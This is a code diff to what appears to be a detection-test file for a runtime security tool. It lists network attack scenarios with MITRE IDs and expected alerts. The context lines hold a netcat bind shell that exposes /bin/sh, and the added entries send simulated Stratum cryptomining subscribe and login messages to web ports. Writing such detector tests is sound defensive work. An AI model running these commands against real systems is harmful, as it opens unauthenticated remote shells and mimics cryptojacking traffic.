@@ -92,6 +92,35 @@ export const ATTACKS_NET: readonly Scenario[] = [
     expect: "Server Ran Freshly Written Script",
     cmd: "(nc -l -p 18084 -e /bin/sh >/dev/null 2>&1 &); sleep 0.3; printf 'id\\n' > /tmp/h4bind.sh; echo 'sh /tmp/h4bind.sh' | nc -w 1 127.0.0.1 18084; true",
   },
+  // ---------------------------------------------------------------- Stratum with write/writev (45-mining.yaml, the probe's write:sock)
+  {
+    name: "Stratum subscribe with write() on a web port (vigil-attack)",
+    technique: "T1496.001",
+    pod: "web",
+    expect: "Stratum Mining Protocol Written To Socket",
+    cmd: `${T}/vigil-attack stratum write $HOST 8080`,
+  },
+  {
+    name: "Stratum XMRig login with writev() on an HTTPS port (vigil-attack)",
+    technique: "T1496.001",
+    pod: "web",
+    expect: "Stratum Mining Protocol Written To Socket",
+    cmd: `${T}/vigil-attack stratum writev $HOST 443 login`,
+  },
+  {
+    name: "Stratum subscribe piped through busybox nc (write)",
+    technique: "T1496.001",
+    pod: "web",
+    expect: "Stratum Mining Protocol Written To Socket",
+    cmd: `echo '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}' | nc -w 1 $HOST 8080; true`,
+  },
+  {
+    name: "Stratum XMRig login with write() to a loopback proxy (vigil-attack)",
+    technique: "T1496.001",
+    pod: "web",
+    expect: "Stratum Mining Protocol Written To Socket",
+    cmd: `(nc -l -p 14446 >/dev/null 2>&1 &); sleep 0.3; ${T}/vigil-attack stratum write 127.0.0.1 14446 login`,
+  },
 ];
 
 export const BENIGN_NET: readonly Scenario[] = [
